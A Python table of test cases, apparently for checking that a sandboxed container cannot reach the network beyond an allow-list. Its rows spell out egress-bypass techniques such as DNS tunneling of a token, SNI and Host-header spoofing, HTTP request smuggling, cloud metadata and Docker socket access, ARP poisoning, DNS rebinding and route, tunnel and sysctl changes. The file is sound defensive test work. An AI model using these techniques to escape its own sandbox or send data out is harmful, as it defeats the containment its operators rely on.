# ruff: noqa: E501 - a row is a line
"""The table of escapes: add a row, and it is tried under every policy that it is meant for."""

from collections.abc import Sequence
from dataclasses import dataclass, field, replace
from typing import Any, Literal

TOKEN_LENGTH = 16


@dataclass(frozen=True)
class Escape:
    """One way out.

    Attributes:
        name: Of the row.
        protocol: What is spoken.
        way: Function of ``inside/probe.py`` that tries it.
        args: Its arguments. ``@name`` is an address of the lab, ``=name`` a name as the box
            resolves it; ``<front>`` is a name that the policy allows, ``<alike>`` one that
            ends like it, ``<token>`` the row's token, ``<lf>`` a bare line feed.
        proof: ``token``: a server outside saw the token. ``request``: a server took the token
            for part of a request that names another host than the allowed one. ``said``: the
            probe reached something of the engine's or the gateway's own.
        held: The connection is opened in the public phase and used in the next.
        alone: It changes the box; tried after the others, by itself.
        only: Names of the policies under which it is tried; none: all of them.
    """

    name: str
    protocol: str
    way: str
    args: dict[str, Any] = field(default_factory=dict)
    proof: Literal["token", "request", "said"] = "token"
    held: bool = False
    alone: bool = False
    only: frozenset[str] = frozenset()


OTHER, FRONT = "@other", "=<front>"
REQUEST = "GET /<token> HTTP/1.1\nHost: other.test\n\n"
HARMLESS = "GET / HTTP/1.1\nHost: <front>\n\n"
EXACT = frozenset({"exact", "compose-exact", "sidecar-exact"})
SIOC_FLAGS = {"user": 0x10000000, "user and network": 0x50000000}


def _talk(name: str, *parts: str, to: str = FRONT, port: int = 80, **more: Any) -> Escape:
    proof = more.pop("proof", "token")
    args = {"to": to, "port": port, "parts": list(parts), **more}
    return Escape(name, "http", "talk", args, proof=proof)


def _tls(name: str, sni: str, *, to: str = FRONT, port: int = 443, **more: Any) -> Escape:
    args = {"to": to, "port": port, "sni": sni, "parts": [REQUEST], **more}
    return Escape(name, "tls", "tls", args)


def _dns(name: str, server: str, question: str, **more: Any) -> Escape:
    return Escape(name, "dns", "dns", {"server": server, "name": question, **more})


def _frame(name: str, to: str, **more: Any) -> Escape:
    return Escape(name, "frame", "frame", {"to": to, **more})


def _length(text: str) -> int:
    return len(text.replace("<token>", "x" * TOKEN_LENGTH).replace("\n", "\r\n"))


def _smuggled(name: str, port: int, fields: str, body: str) -> Escape:
    head = f"POST / HTTP/1.1\nHost: <front>\n{fields}\n\n"
    return _talk(name, head + body, port=port, proof="request")


PLAIN = [
    Escape("tcp to another address", "tcp", "talk", {"to": OTHER, "port": 9999, "parts": [REQUEST]}),
    Escape("tcp to port 22", "tcp", "talk", {"to": OTHER, "port": 22, "parts": ["<token>\n"]}),
    Escape("http to another address", "http", "talk", {"to": OTHER, "port": 80, "parts": [REQUEST]}),
    Escape("an allowed name's host to another address", "http", "talk",
           {"to": OTHER, "port": 80, "parts": ["GET /<token> HTTP/1.1\nHost: <front>\n\n"]}),
    Escape("curl by another name", "http", "curl", {"url": "http://other.test/<token>"}),
    Escape("curl, name pinned to an address", "tls", "curl", {"url": "https://198.51.100.11/<token>"}),
    Escape("udp to another address", "udp", "udp", {"to": OTHER, "port": 9999}),
    Escape("udp to port 443, as QUIC", "udp", "udp", {"to": OTHER, "port": 443}),
    Escape("udp to an allowed name, as QUIC", "udp", "udp", {"to": FRONT, "port": 443},
           only=EXACT | {"wildcard"}),
    Escape("udp in fragments", "udp", "udp", {"to": OTHER, "port": 9999, "size": 4000}),
    Escape("udp with a packet mark", "udp", "udp", {"to": OTHER, "port": 9999, "mark": True}),
    Escape("loose source route", "udp", "udp", {"to": OTHER, "port": 9999, "source_route": "loose"}),
    Escape("strict source route", "udp", "udp", {"to": OTHER, "port": 9999, "source_route": "strict"}),
    Escape("record route", "udp", "udp", {"to": OTHER, "port": 9999, "source_route": "record"}),
    Escape("router alert", "udp", "udp", {"to": OTHER, "port": 9999, "source_route": "alert"}),
    Escape("ping, datagram socket", "icmp", "ping", {"to": OTHER}),
    Escape("ping, raw socket", "icmp", "ping", {"to": OTHER, "raw": True}),
    Escape("ping, the program", "icmp", "ping_program", {"to": OTHER}),
    Escape("ping to an allowed name", "icmp", "ping", {"to": FRONT}, only=EXACT | {"wildcard"}),
    Escape("sctp", "sctp", "sctp", {"to": OTHER, "port": 9999}),
    Escape("sctp in a raw packet", "sctp", "protocol", {"to": OTHER, "number": 132}),
    Escape("udp-lite", "udp-lite", "udplite", {"to": OTHER, "port": 9999}),
    Escape("gre", "47", "protocol", {"to": OTHER, "number": 47}),
    Escape("ip in ip", "4", "protocol", {"to": OTHER, "number": 4}),
    Escape("esp", "50", "protocol", {"to": OTHER, "number": 50}),
    Escape("an unassigned protocol", "253", "protocol", {"to": OTHER, "number": 253}),
    Escape("data in the syn, fast open", "tcp", "syn_with_data", {"to": OTHER, "port": 9999}),
    Escape("data in the syn, own header", "tcp", "own_header", {"to": OTHER, "source": "", "what": "syn"}),
    Escape("a stray segment with data", "tcp", "own_header", {"to": OTHER, "source": "", "what": "ack"}),
    Escape("a forged source", "udp", "own_header", {"to": OTHER, "source": "@allowed"}),
    Escape("an error sent to a forged source", "icmp", "own_header",
           {"to": "@closed", "source": OTHER}),
]  # fmt: skip

NAMES = [
    _dns("outside server by udp", "@dns", "<token>.other.test"),
    _dns("outside server by tcp", "@dns", "<token>.other.test", over="tcp"),
    _dns("outside server by tls", "@dns", "<token>.other.test", over="tls"),
    _tls("outside server by https", "dns.test", to="@dns",
         parts=[f"POST /dns-query HTTP/1.1\nHost: dns.test\nContent-Length: {TOKEN_LENGTH}\n\n<token>"]),
    _dns("outside server, an allowed name", "@dns", "<front>", option="<token>"),
    _dns("own server, another name", "own", "<token>.other.test"),
    _dns("own server by tcp", "own", "<token>.other.test", over="tcp"),
    _dns("own server, a name below an allowed one", "own", "<token>.allowed.test"),
    _dns("own server, a name that ends alike", "own", "<token>allowed.test"),
    _dns("own server, a wildcard's suffix without its dot", "own", "<token>.evilwild.test"),
    _dns("own server, an option with data", "own", "<front>", option="<token>"),
    _dns("own server, data after the question", "own", "<front>", extra="<token>"),
    _dns("own server, another class", "own", "<token>.other.test", words=3),
    *(
        _dns(f"own server, {kind} below an allowed name", "own", "<token>.allowed.test", kind=kind)
        for kind in ("AAAA", "NS", "CNAME", "NULL", "MX", "TXT", "SRV", "HTTPS", "ANY")
    ),
    _dns("own server, TXT with an option", "own", "<front>", kind="TXT", option="<token>"),
    _dns("own server, a reverse name", "own", "<token>.100.51.198.in-addr.arpa", kind="PTR"),
    _dns("the engine's server", "127.0.0.11", "<token>.other.test"),
    _dns("the engine's server by tcp", "127.0.0.11", "<token>.other.test", over="tcp"),
    _dns("the engine's server, below an allowed name", "127.0.0.11", "<token>.allowed.test"),
    _dns("the router's server", "router", "<token>.other.test"),
    _dns("the router's server by tcp", "router", "<token>.other.test", over="tcp"),
    _dns("the gateway's server on its other side", "@own_gateway", "<token>.other.test"),
    Escape("the system's resolver", "dns", "resolve", {"name": "<token>.other.test"}),
    Escape("the system's resolver, below an allowed name", "dns", "resolve",
           {"name": "<token>.allowed.test"}),
    Escape("multicast names", "dns", "udp", {"to": "224.0.0.251", "port": 5353}),
]  # fmt: skip

TLS = [
    _tls("another server name on an allowed address", "other.test"),
    _tls("the same on port 8443", "other.test", port=8443),
    _tls("another server name on the real address", "other.test", to="@allowed"),
    _tls("the same on a port for plain HTTP", "other.test", port=80),
    _tls("no server name", "", to="@allowed"),
    _tls("an allowed server name to another address", "<front>", to=OTHER),
    _tls("hello in many segments", "other.test", cut="segments"),
    _tls("hello in several records", "other.test", cut="records"),
    _tls("a name that begins like an allowed one", "<front>.other.test"),
    _tls("a name that ends like an allowed one", "<alike>"),
    _tls("a token as a label below an allowed name", "<token>.allowed.test"),
    _tls("data as protocol names", "other.test", alpn=["<token>", "http/1.1"]),
    _tls("TLS after a PROXY header", "other.test",
         first="PROXY TCP4 198.51.100.7 198.51.100.11 4000 443\n"),
    _tls("TLS after a plain request", "other.test", first=HARMLESS, port=8080),
    _tls("TLS after CONNECT", "other.test", first="CONNECT <front>:443 HTTP/1.1\nHost: <front>\n\n",
         port=8080),
]  # fmt: skip

SECOND = "GET /<token> HTTP/1.1\nHost: other.test\nConnection: close\n\n"
HTTP = [
    _talk("another host on an allowed address", REQUEST),
    _talk("the same on the real address", REQUEST, to="@allowed"),
    _talk("the same on port 8080", REQUEST, port=8080),
    _talk("the same on port 443", REQUEST, port=443),
    _talk("the same on a port for other things", REQUEST, port=9999),
    _talk("no host", "GET /<token> HTTP/1.0\n\n", to="@allowed"),
    _talk("no host and no version", "GET /<token>\n", to="@allowed"),
    _talk("a second request with another host", HARMLESS, SECOND),
    _talk("a pipelined request with another host", HARMLESS + SECOND),
    _talk("three requests, the last with another host", HARMLESS + HARMLESS, SECOND),
    _talk("two hosts", "GET /<token> HTTP/1.1\nHost: <front>\nHost: other.test\n\n"),
    _talk("two hosts, the other way round", "GET /<token> HTTP/1.1\nHost: other.test\nHost: <front>\n\n"),
    _talk("two hosts in one line", "GET /<token> HTTP/1.1\nHost: <front>, other.test\n\n"),
    _talk("a folded host", "GET /<token> HTTP/1.1\nHost: <front>\n other.test\n\n"),
    _talk("a host with a blank before its colon",
          "GET /<token> HTTP/1.1\nHost: <front>\nHost : other.test\n\n"),
    _talk("a host as user name", "GET /<token> HTTP/1.1\nHost: <front>@other.test\n\n"),
    _talk("a host as port", "GET /<token> HTTP/1.1\nHost: <front>:80@other.test\n\n"),
    _talk("a host that begins like an allowed one", "GET /<token> HTTP/1.1\nHost: <front>.other.test\n\n"),
    _talk("a host that ends like an allowed one", "GET /<token> HTTP/1.1\nHost: <alike>\n\n"),
    _talk("absolute form", "GET http://other.test/<token> HTTP/1.1\nHost: <front>\n\n"),
    _talk("absolute form, host alike",
          "GET http://other.test/<token> HTTP/1.1\nHost: other.test\n\n"),
    _talk("connect to another host", "CONNECT other.test:80 HTTP/1.1\nHost: other.test:80\n\n", REQUEST),
    _talk("connect, an allowed host", "CONNECT other.test:80 HTTP/1.1\nHost: <front>\n\n", REQUEST),
    _talk("connect through an allowed server",
          "CONNECT <front>:80 HTTP/1.1\nHost: <front>:80\n\n", REQUEST),
    _talk("leading blank lines", "\n\n" + REQUEST),
    _talk("leading blank lines on the real address", "\n\n" + REQUEST, to="@allowed"),
    _talk("leading blanks", "  " + REQUEST),
    _talk("bare line feeds", "GET /<token> HTTP/1.1<lf>Host: other.test<lf><lf>"),
    _talk("a request in small pieces", "GE", "T /<token> HT", "TP/1.1\nHost: oth", "er.test\n\n",
          pause=0.1),
    _talk("upgrade to h2c", "GET / HTTP/1.1\nHost: <front>\nConnection: Upgrade, HTTP2-Settings\n"
          "Upgrade: h2c\nHTTP2-Settings: AAMAAABkAAQAAP__\n\n", "PRI * HTTP/2.0\n\nSM\n\n" + REQUEST),
    _talk("h2c by prior knowledge", "PRI * HTTP/2.0\n\nSM\n\n\x00\x00\x00\x04\x00\x00\x00\x00\x00",
          REQUEST),
    _talk("a PROXY header", "PROXY TCP4 198.51.100.7 198.51.100.11 4000 80\n" + REQUEST),
    _smuggled("smuggled, length before chunks", 80,
              f"Content-Length: {_length('0' + chr(10) * 2 + SECOND)}\nTransfer-Encoding: chunked",
              "0\n\n" + SECOND),
    _smuggled("smuggled, chunks before length", 8080,
              "Transfer-Encoding: chunked\nContent-Length: 4",
              f"{_length(SECOND):x}\n{SECOND}\n0\n\n"),
    _smuggled("smuggled, odd chunked", 80,
              f"Transfer-Encoding: xchunked\nContent-Length: {_length('0' + chr(10) * 2 + SECOND)}",
              "0\n\n" + SECOND),
    _smuggled("smuggled, two lengths", 80,
              f"Content-Length: 0\nContent-Length: {_length(SECOND)}", SECOND),
    _smuggled("smuggled, a blank before the colon", 8080,
              f"Content-Length: {_length(SECOND)}\nContent-Length : 0", SECOND),
]  # fmt: skip


def _h2(stream: int, authority: str, extra: bytes = b"") -> bytes:
    """A request of HTTP/2 in one frame, its text written out."""
    path = b"/" + b"<token>".ljust(TOKEN_LENGTH)
    name = authority.encode()
    block = (
        b"\x82\x86\x04" + bytes([len(path)]) + path + b"\x01" + bytes([len(name)]) + name + extra
    )
    head = len(block).to_bytes(3, "big") + b"\x01\x05" + stream.to_bytes(4, "big")
    return head + block.replace(path, b"/<token>")


def _h2_talk(name: str, *requests: bytes, **more: Any) -> Escape:
    begin = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\x00\x00\x00\x04" + bytes(5)
    # The probe makes CR LF of every line feed but of those that are written thus.
    parts = [part.decode("latin-1").replace("\n", "<lf>") for part in (begin, *requests)]
    args = {"to": FRONT, "port": 80, "parts": parts}
    return Escape(name, "http", "talk", args, **more)


OTHER_HOST_FIELD = b"\x00\x04host\x0aother.test"
H2 = [
    _h2_talk("h2c with another host", _h2(1, "other.test")),
    _h2_talk("h2c, the second request with another host",
             _h2(1, "allowed.test").replace(b"/<token>", b"/" + b"x" * TOKEN_LENGTH),
             _h2(3, "other.test")),
    _h2_talk("h2c with two hosts", _h2(1, "allowed.test", OTHER_HOST_FIELD), proof="request",
             only=EXACT),
]  # fmt: skip

IPV6 = [
    Escape("ipv6 tcp", "ipv6", "tcp6", {"to": "2001:db8::11", "port": 9999}),
    Escape("ipv6 udp to all nodes", "ipv6", "udp", {"to": "ff02::1", "port": "@host_udp", "family": 6}),
    Escape("ipv6 frame to all nodes", "ipv6", "frame6", {"port": "@host_udp"}),
    Escape("ipv6 switched on", "ipv6", "command_first", {
        "commands": [["sh", "-c", "echo 0 > /proc/sys/net/ipv6/conf/all/disable_ipv6"]],
        "undo": [], "then": ["udp", {"to": "ff02::1", "port": "@host_udp", "family": 6}]}, alone=True),
]  # fmt: skip

FRAMES = [
    _frame("frame through the router", OTHER, via="router"),
    _frame("frame to everybody", OTHER),
    _frame("frame with a ping", OTHER, via="router", what="icmp"),
    _frame("frame with a syn", OTHER, via="router", what="syn"),
    _frame("frame with a stray segment", OTHER, via="router", what="ack"),
    _frame("frame with a question", "@dns", via="router", what="dns"),
    _frame("frame with a first fragment", OTHER, via="router", what="fragment"),
    _frame("frame with a later fragment", OTHER, via="router", what="later"),
    _frame("frame with a source route", OTHER, via="router", what="route"),
    _frame("frame with a forged source", OTHER, via="router", source="@allowed"),
    _frame("frame for the machine, to everybody", "@host", port="@host_udp"),
    _frame("frame for the machine, to itself", "@host", port="@host_udp", via="@host"),
    _frame("frame for the machine's bridge", "@bridge", port="@host_udp", via="@bridge"),
    _frame("frame through the machine", OTHER, via="@host"),
    _frame("frame of an unknown type", OTHER, what="plain", type=0x88B5),
    _frame("frame with a VLAN tag", OTHER, what="vlan", type=0x8100),
    _frame("limited broadcast in a frame", "255.255.255.255", port="@host_udp"),
    _frame("an error sent to a forged source, by frame", "@closed", via="router", source=OTHER),
    Escape("the router told of another address", "frame", "poisoned", {"victim": "@peer_box"}),
]  # fmt: skip

BROADCASTS = [
    Escape("limited broadcast", "udp", "broadcast", {"to": "255.255.255.255", "port": "@host_udp"}),
    Escape("limited broadcast to the outside", "udp", "broadcast", {"to": "255.255.255.255", "port": 9999}),
    Escape("broadcast of the own network", "udp", "broadcast", {"to": "subnet", "port": "@host_udp"}),
    Escape("multicast to all hosts", "udp", "udp", {"to": "224.0.0.1", "port": "@host_udp"}),
]  # fmt: skip


def _host(name: str, address: str) -> list[Escape]:
    parts = {"parts": [REQUEST]}
    return [
        Escape(f"tcp to {name}", "tcp", "talk", {"to": address, "port": "@host_tcp", **parts}),
        Escape(f"udp to {name}", "udp", "udp", {"to": address, "port": "@host_udp"}),
        Escape(f"ping to {name}", "icmp", "ping", {"to": address}),
    ]


MACHINE = [
    *_host("the machine's main address", "@host"),
    *_host("the machine's bridge address", "@bridge"),
    *_host("the outside network's router", "@uplink_router"),
    Escape("http to the machine as host.docker.internal", "http", "curl",
           {"url": "http://host.docker.internal/<token>"}),
    _talk("host.docker.internal through the proxy", "GET /<token> HTTP/1.1\nHost: host.docker.internal\n\n"),
    Escape("tcp to 0.0.0.0", "tcp", "talk", {"to": "0.0.0.0", "port": "@host_tcp", "parts": [REQUEST]}),
    Escape("another container's published port", "tcp", "talk",
           {"to": "@host", "port": "@published", "parts": [REQUEST]}),
    Escape("the same by the bridge address", "tcp", "talk",
           {"to": "@bridge", "port": "@published", "parts": [REQUEST]}),
    Escape("another container's own address", "tcp", "talk",
           {"to": "@neighbour", "port": 9999, "parts": [REQUEST]}),
    Escape("another container by udp", "udp", "udp", {"to": "@neighbour", "port": 9999}),
    Escape("another container by ping", "icmp", "ping", {"to": "@neighbour"}),
    Escape("the engine's tcp port", "tcp", "talk", {"to": "@host", "port": 2375, "parts": [REQUEST]}),
    Escape("the engine's socket", "unix", "unix_socket",
           {"paths": ["/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock",
                      "/run/podman/podman.sock"]}, proof="said"),
    Escape("metadata by http", "http", "talk", {"to": "@metadata", "port": 80, "parts": [REQUEST]}),
    Escape("metadata by udp", "udp", "udp", {"to": "@metadata", "port": 9999}),
    Escape("metadata as host through the proxy", "http", "talk",
           {"to": FRONT, "port": 80, "parts": ["GET /<token> HTTP/1.1\nHost: 169.254.169.254\n\n"]}),
]  # fmt: skip

NEIGHBOURS = [
    Escape("another trial's box by tcp", "tcp", "talk",
           {"to": "@peer_box", "port": 9999, "parts": [REQUEST]}),
    Escape("another trial's box by udp", "udp", "udp", {"to": "@peer_box", "port": 9999}),
    Escape("another trial's box by ping", "icmp", "ping", {"to": "@peer_box"}),
    Escape("another trial's gateway, its name server", "dns", "dns",
           {"server": "@peer_gateway", "name": "<token>.other.test"}),
    Escape("another trial's gateway, its ports", "tcp", "every_port",
           {"to": "@peer_gateway", "ports": "@gateway_ports"}, proof="said"),
    Escape("the own gateway's ports", "tcp", "every_port",
           {"to": "@own_router", "ports": "@gateway_ports"}, proof="said"),
    Escape("the own gateway's ports on its other side", "tcp", "every_port",
           {"to": "@own_gateway", "ports": "@gateway_ports"}, proof="said"),
    Escape("the own gateway on its other side by udp", "udp", "udp", {"to": "@own_gateway", "port": 9999}),
    Escape("the proxy under its own address", "http", "talk",
           {"to": "@own_router", "port": 80, "parts": [REQUEST]}),
    Escape("beside the stand-in address", "tcp", "talk",
           {"to": "198.18.0.2", "port": 80, "parts": [REQUEST]}),
]  # fmt: skip

REBOUND = (
    "machine",
    "bridge",
    "metadata",
    "loopback",
    "uplink",
    "peer",
    "gateway",
    "multicast",
    "self",
)
REBINDING = [
    row
    for kind in REBOUND
    for row in (
        Escape(f"an allowed name that leads to: {kind}", "http", "talk",
               {"to": f"=to-{kind}.test", "port": 80,
                "parts": [f"GET /<token> HTTP/1.1\nHost: to-{kind}.test\n\n"]}, only=EXACT),
        Escape(f"an allowed name that leads to: {kind}, by TLS", "tls", "tls",
               {"to": f"=to-{kind}.test", "port": 443, "sni": f"to-{kind}.test",
                "parts": [f"GET /<token> HTTP/1.1\nHost: to-{kind}.test\n\n"]}, only=EXACT),
    )
]  # fmt: skip

UDP_OTHER = ["udp", {"to": OTHER, "port": 9999}]
CHANGES = [
    Escape("resolv.conf names another server", "dns", "edited",
           {"file": "/etc/resolv.conf", "text": "nameserver {dns}\n",
            "then": ["resolve", {"name": "<token>.other.test"}]}, alone=True),
    Escape("hosts leads an allowed name elsewhere", "http", "edited",
           {"file": "/etc/hosts", "text": "{other} <front>\n",
            "then": ["curl", {"url": "http://<front>/<token>"}]}, alone=True),
    Escape("hosts leads another name to the stand-in", "http", "edited",
           {"file": "/etc/hosts", "text": "198.18.0.1 other.test\n",
            "then": ["curl", {"url": "http://other.test/<token>"}]}, alone=True),
    Escape("another default route", "udp", "command_first", {
        "commands": [["ip", "route", "replace", "{other}/32", "via", "{bridge}", "dev", "{interface}",
                      "onlink"]],
        "undo": [["ip", "route", "del", "{other}/32"]], "then": UDP_OTHER}, alone=True),
    Escape("a direct route", "udp", "command_first", {
        "commands": [["ip", "route", "add", "{other}/32", "dev", "{interface}"]],
        "undo": [["ip", "route", "del", "{other}/32"]], "then": UDP_OTHER}, alone=True),
    Escape("a further address", "udp", "command_first", {
        "commands": [["ip", "address", "add", "{other_router}/24", "dev", "{interface}"]],
        "undo": [["ip", "address", "del", "{other_router}/24", "dev", "{interface}"]],
        "then": UDP_OTHER}, alone=True),
    Escape("a further interface", "udp", "command_first", {
        "commands": [["ip", "link", "add", "out0", "link", "{interface}", "type", "macvlan"],
                     ["ip", "link", "set", "out0", "up"],
                     ["ip", "route", "replace", "{other}/32", "dev", "out0"]],
        "undo": [["ip", "link", "del", "out0"]], "then": UDP_OTHER}, alone=True),
    Escape("a tunnel", "4", "command_first", {
        "commands": [["ip", "tunnel", "add", "tun9", "mode", "ipip", "remote", "{other}"],
                     ["ip", "link", "set", "tun9", "up"]],
        "undo": [["ip", "tunnel", "del", "tun9"]],
        "then": ["udp", {"to": "@neighbour", "port": 9999}]}, alone=True),
    *(
        Escape(f"a namespace of one's own: {name}", "frame", "user_namespace",
               {"flags": flags, "then": ["frame", {"to": OTHER, "via": "router"}]}, alone=True)
        for name, flags in SIOC_FLAGS.items()
    ),
    Escape("the gateway's namespace by ip netns", "udp", "command_first", {
        "commands": [["sh", "-c", "ip netns attach out 1 && ip netns exec out true"]], "undo": [],
        "then": UDP_OTHER}, alone=True),
    Escape("ping range and forwarding by sysctl", "icmp", "command_first", {
        "commands": [["sh", "-c", "echo 1 > /proc/sys/net/ipv4/ip_forward"],
                     ["sh", "-c", "echo 1 > /proc/sys/net/ipv4/conf/all/proxy_arp"]], "undo": [],
        "then": ["ping", {"to": OTHER}]}, alone=True),
]  # fmt: skip


def _held(name: str, protocol: str, kind: str, **args: Any) -> Escape:
    return Escape(f"{name}, opened before", protocol, kind, args, held=True)


OPEN_OTHER = "GET / HTTP/1.1\nHost: other.test\n\n"
OPEN_FRONT = "GET / HTTP/1.1\nHost: allowed.test\n\n"
WEBSOCKET = "GET / HTTP/1.1\nHost: other.test\nConnection: Upgrade\nUpgrade: websocket\n\n"
HELD = [
    _held("tcp", "tcp", "tcp", to=OTHER, port=9999, greeting=OPEN_OTHER, then=REQUEST),
    _held("http to another host", "http", "tcp", to=OTHER, port=80, greeting=OPEN_OTHER, then=REQUEST),
    _held("http to an allowed host, then another", "http", "tcp", to="@allowed", port=80,
          greeting=OPEN_FRONT, then=REQUEST),
    _held("websocket", "http", "tcp", to=OTHER, port=80, greeting=WEBSOCKET, then="<token>"),
    _held("tls", "tls", "tls", to=OTHER, port=443, sni="other.test", greeting=OPEN_OTHER, then=REQUEST),
    _held("tls to the allowed address", "tls", "tls", to="@allowed", port=443, sni="other.test",
          greeting=OPEN_OTHER, then=REQUEST),
    _held("udp", "udp", "udp", to=OTHER, port=9999),
    _held("udp to the allowed address", "udp", "udp", to="@allowed", port=9999),
    _held("questions to an outside server", "dns", "udp", to="@dns", port=53),
    _held("ping", "icmp", "icmp", to=OTHER),
    _held("metadata", "http", "tcp", to="@metadata", port=80, greeting=OPEN_OTHER, then=REQUEST),
]  # fmt: skip

DENIED_ONLY = frozenset({"denied"})
DENIED = [
    Escape("a denied name", "http", "curl", {"url": "http://denied.test/<token>"}),
    Escape("a denied name by TLS", "tls", "curl", {"url": "https://denied.test/<token>"}),
    Escape("a denied name by its address", "http", "talk",
           {"to": "@allowed", "port": 80, "parts": ["GET /<token> HTTP/1.1\nHost: denied.test\n\n"]}),
    Escape("a denied server name by its address", "tls", "tls",
           {"to": "@allowed", "port": 443, "sni": "denied.test", "parts": [REQUEST]}),
    Escape("a name below a denied suffix", "http", "curl", {"url": "http://any.below.test/<token>"}),
    Escape("a second request for a denied name", "http", "talk",
           {"to": "@allowed", "port": 80,
            "parts": [HARMLESS, "GET /<token> HTTP/1.1\nHost: denied.test\n\n"]}),
    Escape("a denied address by tcp", "tcp", "talk", {"to": "@in_range", "port": 9999, "parts": [REQUEST]}),
    Escape("a denied address by udp", "udp", "udp", {"to": "@in_range", "port": 9999}),
    Escape("a denied address by ping", "icmp", "ping", {"to": "@in_range"}),
    Escape("a name that leads to a denied address", "http", "curl", {"url": "http://in-range.test/<token>"}),
    # What is judged late, or cannot be judged, is not let through for that.
    Escape("a denied name after a pause in the first word", "http", "talk",
           {"to": "@allowed", "port": 80, "pause": 2.5,
            "parts": ["G", "ET /<token> HTTP/1.1\nHost: denied.test\n\n"]}),
    Escape("a denied name after a long silence", "http", "talk",
           {"to": "@allowed", "port": 80, "pause": 2.5,
            "parts": ["", "GET /<token> HTTP/1.1\nHost: denied.test\n\n"]}),
    Escape("a denied server name after a pause in the hello", "tls", "tls",
           {"to": "@allowed", "port": 443, "sni": "denied.test", "parts": [REQUEST], "cut": "pause"}),
    Escape("a denied server name in a hello of several records", "tls", "tls",
           {"to": "@allowed", "port": 443, "sni": "denied.test", "parts": [REQUEST], "cut": "records"}),
    Escape("TLS that says no name while names are denied", "tls", "tls",
           {"to": "@allowed", "port": 443, "sni": "", "parts": ["GET /<token> HTTP/1.1\nHost: denied.test\n\n"]}),
    Escape("a denied name behind a line that is too long", "http", "talk",
           {"to": "@allowed", "port": 80,
            "parts": ["GET /<token>" + "a" * 17_000 + " HTTP/1.1\nHost: denied.test\n\n"]}),
    Escape("a denied name behind empty lines", "http", "talk",
           {"to": "@allowed", "port": 80, "parts": ["\r\nGET /<token> HTTP/1.1\nHost: denied.test\n\n"]}),
    Escape("a denied name in a request that begins as SSH", "http", "talk",
           {"to": "@allowed", "port": 80, "pause": 2.5,
            "parts": ["SSH-2.0- /<token> HTTP/1.1\n", "Host: denied.test\n\n"]}),
]  # fmt: skip
DENIED = [replace(row, only=DENIED_ONLY) for row in DENIED]

ESCAPES: Sequence[Escape] = (
    *PLAIN, *NAMES, *TLS, *HTTP, *H2, *IPV6, *FRAMES, *BROADCASTS, *MACHINE, *NEIGHBOURS, *REBINDING,
    *CHANGES, *HELD, *DENIED,
)  # fmt: skip
BY_NAME = {row.name: row for row in ESCAPES}
